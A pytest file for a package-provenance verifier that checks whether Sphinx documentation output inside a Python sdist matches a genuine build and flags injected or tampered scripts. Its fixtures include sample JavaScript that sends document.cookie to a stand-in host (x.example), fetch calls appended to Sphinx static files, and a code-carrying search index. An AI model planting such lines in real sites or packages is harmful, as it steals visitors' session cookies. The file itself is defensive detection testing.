"""Sphinx HTML output in an sdist, as SQLAlchemy ships it: the release builds the docs into `doc/` (not committed)
and MANIFEST.in takes them into the sdist `python -m build` makes. Genuine output comes out without a high
finding through plain `verify PURL`; a script injected beside it, or a tampered Sphinx static file, is a mismatch.
The Sphinx release the pages name and the extension the commit pins are served by the loopback index."""

from __future__ import annotations

import subprocess
import sys
import tarfile
import zlib
from pathlib import Path

import pytest

from ossprov import stages
from ossprov.fixtures.world import World
from ossprov.model import FileStatus, Severity, Verdict, VerifyResult

DOCTOOLS = b"/*\n * doctools.js\n * Base JavaScript utilities for all Sphinx HTML documentation.\n */\nconst Documentation = {};\n"
BASIC_CSS_T = b"div.sphinxsidebar {\n    width: {{ theme_sidebarwidth|todim }};\n}\n"
FUNCS = b"export function filterText(target) {\n    return target.innerText;\n}\n"
OPTIONS = (b"const DOCUMENTATION_OPTIONS = {\n    VERSION: '1.0',\n    LANGUAGE: 'en',\n    HAS_SOURCE: false,\n"
           b"    SHOW_SEARCH_SUMMARY: true,\n};")
SEARCH_INDEX = (b'Search.setIndex({"docnames": ["index", "intro"], "filenames": ["index.rst", "intro.rst"], '
                b'"titles": ["Docpkg", "Intro"], "terms": {"docpkg": [0, 1]}})')
THEME_JS = b"$(function () { document.body.classList.add('ready'); });\n"

SOURCE = {
    "pyproject.toml": '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n\n'
                      '[project]\nname = "docpkg"\nversion = "1.0"\n\n[tool.setuptools]\npackages = ["docpkg"]\n\n'
                      '[tool.pytest.ini_options]\nnorecursedirs = "doc build"\n',
    "MANIFEST.in": "recursive-include doc *.html *.css *.js *.rst *.py *.txt\nprune doc/build/output\n",
    "docpkg/__init__.py": "def hello():\n    return 1\n",
    "doc/build/conf.py": "project = 'docpkg'\nextensions = ['sphinx_copybutton']\nhtml_theme = 'acme'\n",
    "doc/build/index.rst": "Docpkg\n======\n\n.. toctree::\n\n   intro\n",
    "doc/build/intro.rst": "Intro\n=====\n\nHello.\n",
    "doc/build/requirements.txt": "sphinx-copybutton==0.5.1\ngit+https://github.com/acme/theme.git#egg=acme-theme\n",
}


def _page(title: str, scripts: list[str]) -> bytes:
    """A page as Sphinx 7.2 writes it: the theme's script with the CRC-32 of its content appended."""
    tags = "".join(f'<script src="_static/{s}{f"?v={zlib.crc32(THEME_JS):08x}" if s == "theme.js" else ""}"></script>\n'
                   for s in scripts)
    return (f'<!DOCTYPE html>\n<html><head><title>{title}</title>\n<link rel="stylesheet" href="_static/basic.css" />\n'
            f'<script id="documentation_options" src="_static/documentation_options.js"></script>\n{tags}</head>\n'
            f'<body><h1>{title}</h1>\n<p>Created using <a href="https://www.sphinx-doc.org/">Sphinx</a> 7.2.6.</p>'
            "</body></html>\n").encode()


def built_docs(scripts: tuple[str, ...] = ("doctools.js", "theme.js")) -> dict[str, str | bytes]:
    """What `sphinx-build` writes into doc/ (the release copies its output there before making the sdist)."""
    return {"doc/index.html": _page("Docpkg", list(scripts)), "doc/intro.html": _page("Intro", list(scripts)),
            "doc/searchindex.js": SEARCH_INDEX, "doc/_static/documentation_options.js": OPTIONS,
            "doc/_static/doctools.js": DOCTOOLS, "doc/_static/basic.css": b"div.sphinxsidebar {\n    width: 230px;\n}",
            "doc/_static/copybutton_funcs.js": FUNCS, "doc/_static/theme.js": THEME_JS}


def publish_tools(world: World) -> None:
    """Sphinx at the version the pages name and the extension doc/build/requirements.txt pins, on the index."""
    world.publish_pypi("sphinx", "7.2.6", None, wheel_files={
        "sphinx/__init__.py": "", "sphinx/themes/basic/static/doctools.js": DOCTOOLS,
        "sphinx/themes/basic/static/basic.css_t": BASIC_CSS_T})
    world.publish_pypi("sphinx-copybutton", "0.5.1", None, wheel_files={
        "sphinx_copybutton/__init__.py": "", "sphinx_copybutton/_static/copybutton_funcs.js": FUNCS})


def publish_docpkg(world: World, name: str, docs: dict[str, str | bytes],
                   settings: dict[str, str] | None = None) -> str:
    """The repository at its tag (SOURCE, its build settings replaced by `settings`), `docs` written into the
    work tree as the doc build leaves them, and the sdist `python -m build` makes from it published (with the
    wheel of its package)."""
    repo = world.repo(f"acme/{name}")
    source = {**SOURCE, "pyproject.toml": SOURCE["pyproject.toml"].replace("docpkg", name, 1), **(settings or {})}
    repo.commit("release", {k: v.replace("NAME", name) for k, v in source.items()})
    repo.tag("v1.0")
    repo.write(docs)
    subprocess.run([sys.executable, "-m", "build", "--sdist", "--no-isolation", "--outdir", "dist", "."],
                   cwd=repo.path, check=True, capture_output=True, timeout=300)
    sdist = next((repo.path / "dist").glob("*.tar.gz"))
    files: dict[str, str | bytes] = {}
    with tarfile.open(sdist) as tar:
        for member in tar.getmembers():
            extracted = tar.extractfile(member) if member.isfile() else None
            rel = member.name.partition("/")[2]
            if extracted and rel != "PKG-INFO":
                files[rel] = extracted.read()
    assert "doc/_static/theme.js" in files and "doc/build/index.rst" in files  # what MANIFEST.in takes in
    return world.publish_pypi(name, "1.0", files, metadata={"Project-URL": [f"Source, https://github.com/acme/{name}"]},
                              wheel_files={"docpkg/__init__.py": SOURCE["docpkg/__init__.py"]})


def _by_path(result: VerifyResult) -> dict[str, list[tuple[str, Severity]]]:
    out: dict[str, list[tuple[str, Severity]]] = {}
    for f in result.findings:
        out.setdefault(f.path or "", []).append((f.rule, f.severity))
    return out


def test_genuine_sphinx_output_in_an_sdist_has_no_high_finding(world: World) -> None:
    publish_tools(world)
    result = stages.verify(publish_docpkg(world, "docpkg", built_docs()))
    assert result.verdict is Verdict.FAITHFUL_WITH_BUILD_OUTPUT, (result.reason, result.findings)
    findings = _by_path(result)
    for vouched in ("doc/searchindex.js", "doc/_static/documentation_options.js", "doc/_static/doctools.js",
                    "doc/_static/basic.css", "doc/_static/copybutton_funcs.js"):
        assert findings[vouched] == [("OSP203", Severity.INFO)], vouched
    assert findings["doc/_static/theme.js"] == [("OSP206", Severity.MEDIUM)]  # loaded, not installed, not compared
    status = {r.path: r.status for r in result.file_results}
    assert status["doc/_static/doctools.js"] is FileStatus.GENERATED
    assert status["doc/_static/theme.js"] is FileStatus.UNEXPLAINED


@pytest.mark.parametrize(("change", "tampered"), [
    ({"doc/_static/helper.js": b"fetch('https://x.example/' + document.cookie);\n"}, "doc/_static/helper.js"),
    ({"doc/_static/doctools.js": DOCTOOLS + b"fetch('https://x.example/');\n"}, "doc/_static/doctools.js"),
    ({"doc/_static/documentation_options.js": OPTIONS + b"\nfetch('https://x.example/');\n"},
     "doc/_static/documentation_options.js"),
    ({"doc/searchindex.js": SEARCH_INDEX + b";fetch('https://x.example/');"}, "doc/_static/theme.js"),
    ({"doc/_static/theme.js": THEME_JS + b"fetch('https://x.example/');\n"}, "doc/_static/theme.js"),
], ids=["script-injected-beside", "sphinx-script-tampered", "options-with-code", "search-index-with-code",
        "loaded-script-changed-after-the-build"])
def test_tampered_sphinx_output_is_a_mismatch(world: World, change: dict[str, str | bytes], tampered: str) -> None:
    """A search index holding code is no Sphinx output: nothing in the directory is vouched for then."""
    publish_tools(world)
    result = stages.verify(publish_docpkg(world, "docpkg-evil", {**built_docs(), **change}))
    assert result.verdict is Verdict.MISMATCH, (result.reason, result.findings)
    assert ("OSP102", Severity.HIGH) in _by_path(result)[tampered]


NAMESPACE_SETTINGS = {
    "pyproject.toml": '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n',
    "setup.cfg": "[metadata]\nname = NAME\nversion = 1.0\n\n[options]\npackages = find_namespace:\n"
                 "include_package_data = true\n"}


PYPROJECT_FIND = SOURCE["pyproject.toml"].replace('[tool.setuptools]\npackages = ["docpkg"]\n',
                                                  "[tool.setuptools.packages.find]\n{}")


@pytest.mark.parametrize(("settings", "theme"), [
    ({"setup.cfg": NAMESPACE_SETTINGS["setup.cfg"] + "\n[options.packages.find]\ninclude = docpkg*\n"},
     ("OSP206", Severity.MEDIUM)),
    ({}, ("OSP102", Severity.HIGH)),
    ({"pyproject.toml": PYPROJECT_FIND.format('exclude = ["tests*"]\n')}, ("OSP102", Severity.HIGH)),
    ({"pyproject.toml": PYPROJECT_FIND.format('exclude = ["tests*"]\nnamespaces = false\n')}, ("OSP206", Severity.MEDIUM)),
], ids=["namespaces-of-the-package-only", "namespaces-anywhere", "pyproject-finder-namespaces-by-default",
        "pyproject-finder-namespaces-off"])
def test_namespace_packages_reach_the_docs_unless_told_where(world: World, settings: dict[str, str],
                                                             theme: tuple[str, Severity]) -> None:
    """`find_namespace:` takes in any directory, doc/ included, unless `include` keeps it to the package; so
    does pyproject.toml's `[tool.setuptools.packages.find]` unless it says `namespaces = false` (its default is
    true): the wheel then holds doc/, MANIFEST.in's files in it as package data."""
    publish_tools(world)
    chosen = {} if "pyproject.toml" in settings else NAMESPACE_SETTINGS  # else SOURCE's pyproject.toml, changed
    result = stages.verify(publish_docpkg(world, "docpkg-ns", built_docs(), {**chosen, **settings}))
    assert theme in _by_path(result)["doc/_static/theme.js"]


def test_sphinx_output_inside_the_package_is_installed_and_keeps_its_high_finding(world: World) -> None:
    """The same output under the importable package: an install puts it on the machine, so a script the
    releases at hand do not hold stays high."""
    publish_tools(world)
    docs = {"docpkg/" + p: data for p, data in built_docs().items()}
    repo = world.repo("acme/docpkg-inside")
    source = {p.replace("doc/", "docpkg/doc/", 1) if p.startswith("doc/") else p: c for p, c in SOURCE.items()}
    repo.commit("release", {**source, "pyproject.toml": source["pyproject.toml"].replace("docpkg", "docpkg-inside", 1),
                            "MANIFEST.in": "recursive-include docpkg *.html *.css *.js *.rst *.py *.txt\n"})
    repo.tag("v1.0")
    files = {**source, **docs}
    purl = world.publish_pypi("docpkg-inside", "1.0", files,
                              metadata={"Project-URL": ["Source, https://github.com/acme/docpkg-inside"]})
    result = stages.verify(purl)
    findings = _by_path(result)
    assert ("OSP102", Severity.HIGH) in findings["docpkg/doc/_static/theme.js"]
    assert findings["docpkg/doc/_static/doctools.js"] == [("OSP203", Severity.INFO)]


def test_the_tools_are_read_from_the_commit_not_the_artifact(world: World, tmp_path: Path) -> None:
    """A pin added to the sdist's copy of requirements.txt vouches for nothing: the pins are read at the commit."""
    publish_tools(world)
    world.publish_pypi("evil-ext", "1.0", None, wheel_files={"evil_ext/_static/theme.js": THEME_JS})
    docs = {**built_docs(), "doc/build/requirements.txt": SOURCE["doc/build/requirements.txt"] + "evil-ext==1.0\n"}
    result = stages.verify(publish_docpkg(world, "docpkg-pin", docs))
    assert _by_path(result)["doc/_static/theme.js"] == [("OSP206", Severity.MEDIUM)]


def test_without_the_tools_on_the_index_only_the_loaded_files_are_lowered(world: World) -> None:
    """Sphinx and the pinned extension not to be had: a script the pages load (outside what installs) is medium,
    one they do not load is high, whatever Sphinx file it may be."""
    result = stages.verify(publish_docpkg(world, "docpkg-alone", built_docs()))
    findings = _by_path(result)
    assert findings["doc/_static/doctools.js"] == [("OSP206", Severity.MEDIUM)]
    assert findings["doc/_static/copybutton_funcs.js"] == [("OSP102", Severity.HIGH)]
    assert findings["doc/searchindex.js"] == [("OSP203", Severity.INFO)]


@pytest.mark.parametrize("data", [b"Search.setIndex(" + b"[" * 200_000 + b")", b"Search.setIndex(alert(1))",
                                  b'Search.setIndex({"docnames": "index"})'])
def test_a_search_index_that_is_not_sphinx_data_ties_nothing_to_the_commit(data: bytes) -> None:
    """Nested past what the JSON parser can follow, code, or no document list: no build, and no traceback."""
    from ossprov.verify.sphinx_output import _docnames

    assert _docnames(data) is None


def test_a_release_of_the_project_itself_vouches_for_nothing(world: World) -> None:
    """The extension's own project: its docs pin its previous release, which the same hijacked account serves.
    That release's static file vouches for nothing in this one (here unloaded, so an unexplained script)."""
    publish_tools(world)
    result = stages.verify(publish_docpkg(world, "sphinx-copybutton", built_docs()))
    assert ("OSP102", Severity.HIGH) in _by_path(result)["doc/_static/copybutton_funcs.js"]
    assert _by_path(result)["doc/_static/doctools.js"] == [("OSP203", Severity.INFO)]  # Sphinx's still counts


def test_pages_are_read_tag_by_tag() -> None:
    """What a page loads (with the checksums it gives) and the Sphinx version its generator meta names, read
    from each tag's attributes, also after a run of tags that never close (the reading is bounded per tag)."""
    from ossprov.ecosystems.interface import CompareContext
    from ossprov.model import PackageFile, PackageTree
    from ossprov.verify.sphinx_output import _pages

    page = (b'<html><head><meta name="generator" content="Sphinx 7.2.6" />\n'
            b'<script defer="defer" src="_static/theme.js?v=0123abcd"></script>\n<link rel="stylesheet" '
            b'href="_static/basic.css" />' + b"<script " * 20_000 + b'src="_static/hidden.js">')
    tree = PackageTree({"doc/index.html": PackageFile("doc/index.html", page)})
    context = CompareContext(tree, {}, lambda _p: None, lambda _ps: {}, "", "")
    loaded, version = _pages("doc/", context)
    assert loaded == {"doc/_static/theme.js": frozenset({"0123abcd"}), "doc/_static/basic.css": frozenset(),
                      "doc/_static/hidden.js": frozenset()}
    assert version == "7.2.6"
